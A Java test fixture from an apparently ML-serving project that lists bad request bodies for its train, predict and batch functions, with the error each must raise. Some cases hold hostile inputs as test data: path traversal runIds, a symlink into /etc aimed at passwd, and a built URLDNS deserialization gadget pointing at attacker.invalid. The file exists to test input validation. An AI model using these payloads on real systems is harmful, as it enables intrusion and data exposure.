package dev.canopy.function;

import dev.canopy.sample.TaxiShards;
import dev.canopy.storage.local.LocalObjectStore;
import dev.canopy.testing.SharedFixture;
import dev.canopy.testing.TestData;
import dev.canopy.training.TrainRequest;
import dev.canopy.training.TrainService;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * The bad-input table: requests a user (or an attacker) could send each function, with the error each must
 * give. Every case names the exception type and the field (as {@code field="value"} or {@code field=}) that
 * the error message must carry. {@code ${D}} in a body is the cases' data directory, inside the one local folder
 * the profile allows ({@link FunctionProfiles#OUT}); {@code ${OUT}} is a fresh output directory per case, checked
 * for partial output after.
 */
final class BadInputs {
    static final Path DIR = FunctionProfiles.OUT.resolve("bad-inputs");
    /** The request size limit the profile sets, so the oversized case stays small. */
    static final int MAX_REQUEST_BYTES = 64 * 1024;
    static final int MAX_SHARDS = 50;

    record Case(String function, String name, String body, String type, String field) {
        @Override
        public String toString() {
            return function + ": " + name;
        }
    }

    private BadInputs() {
    }

    static final String INVALID = "InvalidInputException";
    static final String NOT_FOUND = "ObjectNotFoundException";
    /**
     * Malformed JSON never reaches a function on AWS: the Lambda Invoke API refuses it with
     * InvalidRequestContentException (HTTP 400). Through the runtime API (sam local, the test server) the
     * Funqy runtime refuses it before Canopy's code runs, with this error.
     */
    static final String UNPARSEABLE = "Could not deserialize the provided message.";

    static List<Case> all() {
        List<Case> c = new ArrayList<>();
        String train = "{\"runId\": \"bad-t\", \"data\": \"${D}/housing.csv\", \"algorithm\": \"decision_tree\", \"out\": \"${OUT}\"";
        c.add(new Case("train", "malformed JSON", "{\"runId\": \"bad-t\", \"data\": ", UNPARSEABLE, ""));
        c.add(new Case("train", "request is a list", "[1, 2]", INVALID, "request="));
        c.add(new Case("train", "unknown field", train + ", \"colour\": \"red\"}", INVALID, "colour=\"colour\""));
        c.add(new Case("train", "wrong type", train + ", \"seed\": \"abc\"}", INVALID, "seed="));
        c.add(new Case("train", "unknown algorithm", train.replace("decision_tree", "svm") + "}", INVALID, "algorithm=\"svm\""));
        c.add(new Case("train", "missing data", "{\"runId\": \"bad-t\", \"algorithm\": \"decision_tree\", \"out\": \"${OUT}\"}", INVALID, "data="));
        c.add(new Case("train", "empty data file", train.replace("housing.csv", "empty.csv") + "}", INVALID, "data="));
        c.add(new Case("train", "corrupt data", train.replace("housing.csv", "corrupt.csv") + "}", INVALID, "data="));
        c.add(new Case("train", "missing data object", train.replace("housing.csv", "nope.csv") + "}", NOT_FOUND, "nope.csv"));
        c.add(new Case("train", "text in the target column", train.replace("housing.csv", "text-target.csv") + "}", INVALID, "MedHouseVal"));
        c.add(new Case("train", "NaN target", train.replace("housing.csv", "nan-target.csv") + "}", INVALID, "MedHouseVal"));
        c.add(new Case("train", "Infinity in a feature", train.replace("housing.csv", "inf-feature.csv") + "}", INVALID, "MedInc"));
        c.add(new Case("train", "huge tree count", train + ", \"params\": {\"max_depth\": 1000000000}}", INVALID, "max_depth=\"1000000000\""));
        c.add(new Case("train", "negative test fraction", train + ", \"testFraction\": -0.5}", INVALID, "testFraction=\"-0.5\""));
        c.add(new Case("train", "path traversal in runId", train.replace("bad-t", "../../etc") + "}", INVALID, "runId=\"../../etc\""));
        c.add(new Case("train", "data outside the allowed buckets", train.replace("${D}/housing.csv", "s3://someone-elses-bucket/housing.csv") + "}", INVALID, "uri=\"s3://someone-elses-bucket/housing.csv\""));
        c.add(new Case("train", "output escapes the root with ..", train.replace("\"${OUT}\"", "\"${D}/../../escaped\"") + "}", INVALID, "outside the allowed locations"));

        String sup = "{\"runId\": \"bad-s\", \"data\": \"${D}/housing.csv\", \"out\": \"${OUT}\"";
        c.add(new Case("supervise", "overwrite is not a boolean", sup + ", \"overwrite\": \"please\"}", INVALID, "overwrite="));
        c.add(new Case("supervise", "malformed JSON", "{\"runId\": \"bad-s\" \"data\"}", UNPARSEABLE, ""));
        c.add(new Case("supervise", "unknown algorithm in the list", sup + ", \"algorithms\": [\"random_forest\", \"svm\"]}", INVALID, "algorithms[1]=\"svm\""));
        c.add(new Case("supervise", "algorithms is not a list", sup + ", \"algorithms\": {\"a\": 1}}", INVALID, "algorithms="));
        c.add(new Case("supervise", "test fraction above 1", sup + ", \"testFraction\": 1.5}", INVALID, "testFraction=\"1.5\""));
        c.add(new Case("supervise", "params for an unknown algorithm", sup + ", \"params\": {\"svm\": {\"trees\": 3}}}", INVALID, "params"));
        c.add(new Case("supervise", "negative tree count", sup + ", \"params\": {\"random_forest\": {\"trees\": -3}}}", INVALID, "trees=\"-3\""));
        c.add(new Case("supervise", "data outside the allowed buckets", sup.replace("${D}/housing.csv", "s3://canopy-test-bucket/elsewhere/h.csv") + "}", INVALID, "uri=\"s3://canopy-test-bucket/elsewhere/h.csv\""));
        c.add(new Case("supervise", "symbolic link out of the root", sup.replace("housing.csv", "link-out/passwd") + "}", INVALID, "outside the allowed locations"));

        c.add(new Case("status", "missing runId", "{\"out\": \"${D}/runs\"}", INVALID, "runId="));
        c.add(new Case("status", "path traversal in runId", "{\"runId\": \"../../../etc\", \"out\": \"${D}/runs\"}", INVALID, "runId=\"../../../etc\""));
        c.add(new Case("status", "runId of the wrong type", "{\"runId\": {\"$ne\": 1}, \"out\": \"${D}/runs\"}", INVALID, "runId="));
        c.add(new Case("status", "unknown run", "{\"runId\": \"no-such-run\", \"out\": \"${D}/runs\"}", NOT_FOUND, "no-such-run"));
        c.add(new Case("status", "out outside the allowed locations", "{\"runId\": \"r1\", \"out\": \"/etc\"}", INVALID, "uri="));

        String shard = "${D}/taxi/" + String.format(TaxiShards.NAME, 0);
        String pred = "{\"modelUri\": \"rule:passenger_count>=2\", \"shard\": \"" + shard + "\"";
        c.add(new Case("predict", "missing modelUri", "{\"shard\": \"" + shard + "\"}", INVALID, "modelUri="));
        c.add(new Case("predict", "rule that does not parse", pred.replace(">=2", ">>2") + "}", INVALID, "modelUri=\"rule:passenger_count>>2\""));
        c.add(new Case("predict", "rule on a column the shard lacks", pred.replace("passenger_count", "tip_percent") + "}", INVALID, "tip_percent"));
        c.add(new Case("predict", "rule on a text column", pred.replace("passenger_count", "vendor_id") + "}", INVALID, "vendor_id"));
        c.add(new Case("predict", "shard is not Parquet", pred.replace(shard, "${D}/housing.csv") + "}", INVALID, "shard="));
        c.add(new Case("predict", "missing shard", pred.replace(shard, "${D}/taxi/none.parquet") + "}", NOT_FOUND, "none.parquet"));
        c.add(new Case("predict", "shard outside the allowed buckets", pred.replace(shard, "s3://someone-elses-bucket/x.parquet") + "}", INVALID, "uri=\"s3://someone-elses-bucket/x.parquet\""));
        c.add(new Case("predict", "dot segments in an S3 key", pred.replace(shard, "s3://canopy-test-bucket/allowed/../secret/x.parquet") + "}", INVALID, "uri="));
        c.add(new Case("predict", "output outside the allowed locations", pred + ", \"outputUri\": \"/tmp/canopy-escape.parquet\"}", INVALID, "uri=\"/tmp/canopy-escape.parquet\""));
        c.add(new Case("predict", "corrupt model", pred.replace("rule:passenger_count>=2", "${D}/models/garbage.model") + "}", INVALID, "modelUri="));
        c.add(new Case("predict", "serialized gadget instead of a model", pred.replace("rule:passenger_count>=2", "${D}/models/gadget.model") + "}", INVALID, "a Java-serialized Smile .model is not loaded here"));
        c.add(new Case("predict", "negative attempt", pred + ", \"attempt\": -1}", INVALID, "attempt=\"-1\""));
        c.add(new Case("predict", "a kept column named twice", pred + ", \"outputPrefix\": \"${OUT}\", \"keepColumns\": [\"vendor_id\", \"vendor_id\"]}", INVALID, "keepColumns=\"vendor_id\""));
        c.add(new Case("predict", "a kept column the shard lacks", pred + ", \"outputPrefix\": \"${OUT}\", \"keepColumns\": [\"customer_id\"]}", INVALID, "keepColumns=\"customer_id\""));
        c.add(new Case("predict", "an unknown output format", pred + ", \"outputPrefix\": \"${OUT}\", \"outputFormat\": \"xlsx\"}", INVALID, "outputFormat=\"xlsx\""));

        String batch = "{\"runId\": \"bad-b\", \"modelUri\": \"rule:passenger_count>=2\", \"shardPrefix\": \"${D}/taxi/\", \"outputPrefix\": \"${OUT}\"";
        c.add(new Case("batch-predict", "malformed JSON", "{\"modelUri\": \"rule:passenger_count>=2\", ", UNPARSEABLE, ""));
        c.add(new Case("batch-predict", "pool size 0", batch + ", \"poolSize\": 0}", INVALID, "poolSize=\"0\""));
        c.add(new Case("batch-predict", "huge pool size", batch + ", \"poolSize\": 2147483647}", INVALID, "poolSize=\"2147483647\""));
        c.add(new Case("batch-predict", "pool size beyond int", batch + ", \"poolSize\": 99999999999999999999}", INVALID, "poolSize="));
        c.add(new Case("batch-predict", "ordered is not a boolean", batch + ", \"ordered\": \"sometimes\"}", INVALID, "ordered="));
        c.add(new Case("batch-predict", "a null shard", "{\"modelUri\": \"rule:passenger_count>=2\", \"shards\": [null], "
                + "\"outputPrefix\": \"${OUT}\"}", INVALID, "shards[0]=null"));
        c.add(new Case("batch-predict", "both shards and shardPrefix", batch + ", \"shards\": [\"" + shard + "\"]}", INVALID, "shardPrefix="));
        c.add(new Case("batch-predict", "tolerated failures above 100%", batch + ", \"toleratedFailurePercentage\": 150}", INVALID, "toleratedFailurePercentage=\"150.0\""));
        c.add(new Case("batch-predict", "zero attempts", batch + ", \"maxAttempts\": 0}", INVALID, "maxAttempts=\"0\""));
        c.add(new Case("batch-predict", "a kept column named prediction", batch + ", \"keepColumns\": [\"prediction\"]}", INVALID, "keepColumns=\"prediction\""));
        c.add(new Case("batch-predict", "an unknown output format", batch + ", \"outputFormat\": \"xlsx\"}", INVALID, "outputFormat=\"xlsx\""));
        c.add(new Case("batch-predict", "shard timeout beyond Lambda's 15 minutes", batch + ", \"shardTimeoutSeconds\": 100000}", INVALID, "shardTimeoutSeconds=\"100000\""));
        c.add(new Case("batch-predict", "prefix outside the allowed buckets", batch.replace("${D}/taxi/", "s3://someone-elses-bucket/taxi/") + "}", INVALID, "uri=\"s3://someone-elses-bucket/taxi/\""));
        c.add(new Case("batch-predict", "more shards than one request may name",
                "{\"modelUri\": \"rule:passenger_count>=2\", \"shards\": ["
                        + String.join(", ", Stream.generate(() -> "\"" + shard + "\"").limit(MAX_SHARDS + 1).toList())
                        + "], \"outputPrefix\": \"${OUT}\"}", INVALID, "Distributed Map"));
        c.add(new Case("batch-predict", "request larger than the size limit",
                batch + ", \"runId\": \"" + "x".repeat(MAX_REQUEST_BYTES) + "\"}", INVALID, "request="));
        c.add(new Case("batch-predict", "run id that climbs out", batch.replace("bad-b", "../../elsewhere") + "}", INVALID, "runId=\"../../elsewhere\""));
        c.add(new Case("batch-predict", "resume from a manifest that is not there", batch + ", \"resumeFrom\": \"${OUT}/_manifest.json\"}", INVALID, "resumeFrom="));
        c.add(new Case("batch-predict", "resume and overwrite at once", batch + ", \"resumeFrom\": \"${OUT}/_manifest.json\", \"overwrite\": true}", INVALID, "overwrite=\"true\""));
        c.add(new Case("batch-predict", "overwrite is not a boolean", batch + ", \"overwrite\": \"please\"}", INVALID, "overwrite="));
        c.add(new Case("batch-predict", "missing model", batch.replace("rule:passenger_count>=2", "${D}/models/none.model") + "}", NOT_FOUND, "none.model"));
        return c;
    }

    static List<Case> of(String function) {
        return all().stream().filter(c -> c.function().equals(function)).toList();
    }

    /** The body of a case, with its data directory and a fresh, empty output directory. */
    static String body(Case c, Path out) {
        return c.body().replace("${D}", DIR.toString()).replace("${OUT}", out.toString());
    }

    /** The data the cases refer to: good data, and each kind of bad data, all generated. */
    static void prepare() {
        SharedFixture.once(DIR, () -> {
            Files.createDirectories(DIR.resolve("models"));
            String csv = TestData.housingCsv(300, 3);
            Files.writeString(DIR.resolve("housing.csv"), csv);
            Files.write(DIR.resolve("empty.csv"), new byte[0]);
            byte[] garbage = new byte[4096];
            new java.util.SplittableRandom(1).nextBytes(garbage);
            Files.write(DIR.resolve("corrupt.csv"), garbage);
            Files.writeString(DIR.resolve("text-target.csv"), replaceCell(csv, 5, 8, "expensive"));
            Files.writeString(DIR.resolve("nan-target.csv"), replaceCell(csv, 7, 8, "NaN"));
            Files.writeString(DIR.resolve("inf-feature.csv"), replaceCell(csv, 9, 0, "Infinity"));
            TaxiShards.write(DIR.resolve("taxi"), new int[]{120, 80}, 7);
            Files.write(DIR.resolve("models/garbage.model"), garbage);
            Files.writeString(DIR.resolve("models/garbage.json"), "{\"features\": [\"passenger_count\"]}");
            // the classic URLDNS gadget: a HashMap whose key is a URL; deserializing it makes a DNS query
            HashMap<Object, Object> gadget = new HashMap<>();
            gadget.put(URI.create("http://attacker.invalid/").toURL(), "x");
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ObjectOutputStream o = new ObjectOutputStream(bytes)) {
                o.writeObject(gadget);
            }
            Files.write(DIR.resolve("models/gadget.model"), bytes.toByteArray());
            Files.writeString(DIR.resolve("models/gadget.json"), "{\"features\": [\"passenger_count\"]}");
            // a finished run, so that status has something to report
            new TrainService(new LocalObjectStore(), java.time.Clock.systemUTC(),
                    DIR.resolve("runs").toString()).train(new TrainRequest("fz-run",
                    DIR.resolve("housing.csv").toString(), null, null, null, "decision_tree", null, 1L, null, null, null,
                    DIR.resolve("runs").toString()));
            Path link = DIR.resolve("link-out");
            if (!Files.exists(link, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
                Files.createSymbolicLink(link, Path.of("/etc"));
            }
        });
    }

    /** {@code csv} with the cell at (data row, column) replaced. */
    private static String replaceCell(String csv, int row, int column, String value) {
        String[] lines = csv.split("\n");
        String[] cells = lines[row + 1].split(",");
        cells[column] = value;
        lines[row + 1] = String.join(",", cells);
        return String.join("\n", lines) + "\n";
    }

    /** What a failed request left in its output directory: nothing but FAILED status records. */
    static List<String> partialOutput(Path out) throws IOException {
        if (!Files.exists(out)) {
            return List.of();
        }
        try (Stream<Path> files = Files.walk(out)) {
            return files.filter(Files::isRegularFile)
                    .filter(p -> !(p.getParent().getFileName().toString().equals("status")
                            && readUtf8(p).contains("\"FAILED\"")))
                    .map(p -> out.relativize(p).toString()).toList();
        }
    }

    private static String readUtf8(Path p) {
        try {
            return new String(Files.readAllBytes(p), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
